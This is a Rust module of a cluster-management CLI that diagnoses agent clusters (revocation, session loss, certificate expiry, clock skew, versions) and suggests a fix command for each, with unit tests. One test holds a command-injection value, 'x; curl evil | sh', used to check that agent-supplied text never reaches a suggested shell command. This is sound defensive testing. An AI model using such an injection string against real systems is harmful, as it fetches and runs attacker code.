//! How the clusters are: whether they may and do have a session, and what of theirs is about to fail. Pure.

use jiff::{SignedDuration, Timestamp};
use nabu_proto::admin_v1::{Cluster, GetVersionResponse};

use super::found::{Certifier, Found, ends_soon};
use super::versions::{self, UPGRADE_AGENT};
use crate::nabuctl::view::text::{age, seconds, skew, timestamp};
use crate::store::identity::is_kube_system_uid;

const CHECK: &str = "cluster";
/// Certificates of agents live that long if the hub does not say.
const USUAL_LIFETIME: SignedDuration = SignedDuration::from_hours(24);
/// Something that went wrong longer ago, and not since, is over.
const RECENT: SignedDuration = SignedDuration::from_hours(1);
/// From there on an agent's own log warns, in seconds.
const CLOCK_WARNING: f64 = 60.0;
/// Further than that agents are not known to work, in seconds.
const CLOCK_ERROR: f64 = 3600.0;

/// What is to be known of the hub beside its clusters.
#[derive(Clone, Copy, Debug)]
pub(super) struct HubFacts<'a> {
    version: &'a str,
    agent_lifetime: SignedDuration,
    certifier: Certifier,
}

impl<'a> HubFacts<'a> {
    pub(super) fn new(hub: &'a GetVersionResponse, certifier: Certifier) -> Self {
        let told = hub.agent_certificate_lifetime;
        Self {
            version: &hub.version,
            agent_lifetime: told.map_or(USUAL_LIFETIME, |told| {
                SignedDuration::from_secs(told.seconds)
            }),
            certifier,
        }
    }
}

/// The clusters; one line for each that is well.
pub(super) fn clusters(clusters: &[Cluster], hub: HubFacts<'_>, now: Timestamp) -> Vec<Found> {
    if clusters.is_empty() {
        let remedy = match hub.certifier {
            Certifier::OwnPki => {
                "nabuctl pki issue --ca pki --out prod-eu agent prod-eu, then helm install nabu-agent charts/nabu-agent"
            }
            _ => "nabuctl cluster add prod-eu prints the command that installs an agent",
        };
        return vec![Found::warning(
            CHECK,
            "the hub knows no cluster yet",
            remedy,
        )];
    }
    clusters
        .iter()
        .flat_map(|one| cluster(one, hub, now))
        .collect()
}

fn cluster(one: &Cluster, hub: HubFacts<'_>, now: Timestamp) -> Vec<Found> {
    let id = &one.cluster_id;
    match one.state.as_str() {
        "Revoked" => {
            let message = format!("{id} is revoked: its agent gets no session");
            let remedy = format!(
                "nabuctl cluster restore {id} takes that back; nabuctl cluster remove {id} forgets the cluster"
            );
            return vec![Found::warning(CHECK, message, remedy)];
        }
        "Pending" => {
            let message = format!("{id} has not opened a session yet{}", last_error(one, now));
            let remedy = format!(
                "run the command that nabuctl cluster add {id} prints, in that cluster; nabuctl cluster token list shows \
                whether its token is used"
            );
            return vec![Found::warning(CHECK, message, remedy)];
        }
        _ => {}
    }
    let mut found = Vec::new();
    if one.state == "Conflict" {
        found.push(conflict(one));
    }
    found.extend(session(one, now));
    found.extend(certificate(one, hub, now));
    found.extend(clock(one));
    if one.connected {
        found.extend(versions::agent(id, &one.agent_version, hub.version));
    }
    found.extend(versions::kubernetes(id, &one.kubernetes_version));
    if found.is_empty() {
        let message = format!(
            "{id} is connected: agent {}, Kubernetes {}, {} unfinished",
            one.agent_version, one.kubernetes_version, one.unfinished
        );
        found.push(Found::ok(CHECK, message));
    }
    found
}

fn last_error(one: &Cluster, now: Timestamp) -> String {
    match one.last_error.as_str() {
        "" => String::new(),
        text => format!("; {} ago: {text}", age(one.last_error_at, now)),
    }
}

fn conflict(one: &Cluster) -> Found {
    let (id, uid) = (&one.cluster_id, &one.refused_kube_system_uid);
    let to = if is_kube_system_uid(uid) {
        format!(" --to {uid}")
    } else {
        String::new()
    };
    let message =
        format!("another cluster (kube-system UID {uid}) came with the id {id}, and was refused");
    let remedy = format!(
        "if it has taken the place of the first: nabuctl cluster rebind {id}{to}; else give it an id of its own, there: \
        {UPGRADE_AGENT} --set clusterId=ANOTHER"
    );
    Found::error(CHECK, message, remedy)
}

fn session(one: &Cluster, now: Timestamp) -> Option<Found> {
    let id = &one.cluster_id;
    if !one.connected {
        let message = format!(
            "{id} has no session; last seen {} ago{}",
            age(one.last_seen_at, now),
            last_error(one, now)
        );
        let remedy = format!("in {id}: kubectl -n nabu-system logs deployment/nabu-agent");
        return Some(Found::error(CHECK, message, remedy));
    }
    let at = timestamp(one.last_error_at).filter(|at| now.duration_since(*at) < RECENT)?;
    let message = format!(
        "{id} is connected, but {} ago: {}",
        age(one.last_error_at, now),
        one.last_error
    );
    let remedy = format!("nabuctl audit list --cluster {id} --since {at:.0} shows what led to it");
    Some(Found::warning(CHECK, message, remedy))
}

fn certificate(one: &Cluster, hub: HubFacts<'_>, now: Timestamp) -> Option<Found> {
    const CHECK: &str = "certificate";
    let id = &one.cluster_id;
    // Not known of agents with a certificate of another PKI.
    let until = timestamp(one.certificate_not_after)?;
    if hub.certifier == Certifier::OwnPki {
        return None;
    }
    let log = format!("in {id}: kubectl -n nabu-system logs deployment/nabu-agent");
    let token = format!(
        "nabuctl cluster add {id} makes a join token; in {id}: {UPGRADE_AGENT} --set joinToken=TOKEN --set identity.joinTokenSecret="
    );
    if now >= until {
        let message = format!("the certificate of {id} has ended at {until:.0}");
        return Some(Found::error(CHECK, message, token));
    }
    if !ends_soon(hub.agent_lifetime, until, now) {
        return None;
    }
    let message = format!("the certificate of {id} ends at {until:.0}, and was not renewed");
    Some(Found::warning(CHECK, message, log))
}

fn clock(one: &Cluster) -> Option<Found> {
    let off = seconds(one.clock_skew)?.abs();
    if off <= CLOCK_WARNING {
        return None;
    }
    let message = format!(
        "the clock of the agent of {} is {} off the hub's",
        one.cluster_id,
        skew(one.clock_skew)
    );
    let remedy = "on the node that is wrong, and on the hub's: timedatectl set-ntp true";
    Some(if off > CLOCK_ERROR {
        Found::error("clock", message, remedy)
    } else {
        Found::warning("clock", message, remedy)
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::nabuctl::check::found::Level;
    use crate::nabuctl::check::found::tests::assert_remedies;

    const NOW: i64 = 1_800_000_000;
    const HOUR: i64 = 3600;

    fn at(second: i64) -> prost_types::Timestamp {
        prost_types::Timestamp {
            seconds: NOW + second,
            nanos: 0,
        }
    }

    fn well() -> Cluster {
        Cluster {
            cluster_id: "prod-eu".to_owned(),
            state: "Active".to_owned(),
            connected: true,
            agent_version: "0.1.0".to_owned(),
            kubernetes_version: "v1.35.4".to_owned(),
            last_seen_at: Some(at(-3)),
            certificate_not_after: Some(at(20 * HOUR)),
            clock_skew: Some(prost_types::Duration {
                seconds: -1,
                nanos: 0,
            }),
            last_error: "SessionLost: no frame came in time".to_owned(),
            last_error_at: Some(at(-2 * HOUR)),
            ..Cluster::default()
        }
    }

    fn judge(one: Cluster) -> Vec<Found> {
        judge_with(one, Certifier::Hub)
    }

    fn judge_with(one: Cluster, certifier: Certifier) -> Vec<Found> {
        let hub = GetVersionResponse {
            version: "0.1.3".to_owned(),
            ..GetVersionResponse::default()
        };
        let now = Timestamp::from_second(NOW).unwrap();
        let found = clusters(&[one], HubFacts::new(&hub, certifier), now);
        assert_remedies(&found);
        found
    }

    #[test]
    fn a_cluster_that_is_well_has_one_line() {
        let found = judge(well());
        assert_eq!((found.len(), found[0].level), (1, Level::Ok), "{found:?}");
    }

    #[test]
    fn what_is_wrong_with_a_cluster_has_a_line_of_its_own_with_the_command_for_it() {
        let away = Cluster {
            connected: false,
            clock_skew: None,
            ..well()
        };
        let skewed = |seconds| Cluster {
            clock_skew: Some(prost_types::Duration { seconds, nanos: 0 }),
            ..well()
        };
        let state = |state: &str| Cluster {
            state: state.to_owned(),
            refused_kube_system_uid: "u-2".to_owned(),
            ..well()
        };
        for (one, check, level, words) in [
            (
                state("Revoked"),
                "cluster",
                Level::Warning,
                "nabuctl cluster restore prod-eu",
            ),
            (
                state("Pending"),
                "cluster",
                Level::Warning,
                "nabuctl cluster add prod-eu",
            ),
            (
                state("Conflict"),
                "cluster",
                Level::Error,
                "nabuctl cluster rebind prod-eu --to u-2",
            ),
            (
                away.clone(),
                "cluster",
                Level::Error,
                "logs deployment/nabu-agent",
            ),
            (
                Cluster {
                    last_error: "StatusRefused: no".to_owned(),
                    last_error_at: Some(at(-60)),
                    ..well()
                },
                "cluster",
                Level::Warning,
                "nabuctl audit list --cluster prod-eu",
            ),
            (
                Cluster {
                    certificate_not_after: Some(at(HOUR)),
                    ..well()
                },
                "certificate",
                Level::Warning,
                "logs deployment/nabu-agent",
            ),
            (skewed(90), "clock", Level::Warning, "timedatectl"),
            (skewed(-90), "clock", Level::Warning, "timedatectl"),
            (skewed(-4000), "clock", Level::Error, "timedatectl"),
            (
                Cluster {
                    agent_version: "0.0.9".to_owned(),
                    ..well()
                },
                "version",
                Level::Warning,
                "helm upgrade nabu-agent",
            ),
            (
                Cluster {
                    kubernetes_version: "v1.20.1".to_owned(),
                    ..well()
                },
                "version",
                Level::Error,
                "kubectl version",
            ),
        ] {
            let found = judge(one);
            let [found] = found.as_slice() else {
                panic!("{found:?}")
            };
            assert_eq!((found.check, found.level), (check, level), "{found:?}");
            assert!(found.remedy.contains(words), "{found:?}");
        }
    }

    #[test]
    fn no_command_has_what_an_agent_says_and_a_shell_would_run() {
        let conflict = Cluster {
            state: "Conflict".to_owned(),
            refused_kube_system_uid: "x; curl evil | sh".to_owned(),
            ..well()
        };
        let found = judge(conflict);
        let remedy = &found[0].remedy;
        assert!(remedy.contains("rebind prod-eu;"), "{remedy}");
        assert!(!remedy.contains("curl"), "{remedy}");
    }

    #[test]
    fn an_agent_that_was_away_until_its_certificate_ended_needs_a_token() {
        let away = Cluster {
            connected: false,
            certificate_not_after: Some(at(-HOUR)),
            ..well()
        };
        let found = judge(away.clone());
        assert!(found[0].message.contains("SessionLost"), "{found:?}");
        assert_eq!(
            (found[1].check, found[1].level),
            ("certificate", Level::Error)
        );
        assert!(found[1].remedy.contains("nabuctl cluster add prod-eu"));
        assert_eq!(judge_with(away, Certifier::OwnPki).len(), 1);
    }

    #[test]
    fn a_hub_without_clusters_is_told_how_to_get_one() {
        let hub = GetVersionResponse::default();
        let now = Timestamp::from_second(NOW).unwrap();
        for certifier in [Certifier::Hub, Certifier::OwnPki, Certifier::Unknown] {
            let found = clusters(&[], HubFacts::new(&hub, certifier), now);
            assert_remedies(&found);
            assert_eq!(found[0].level, Level::Warning);
        }
    }
}
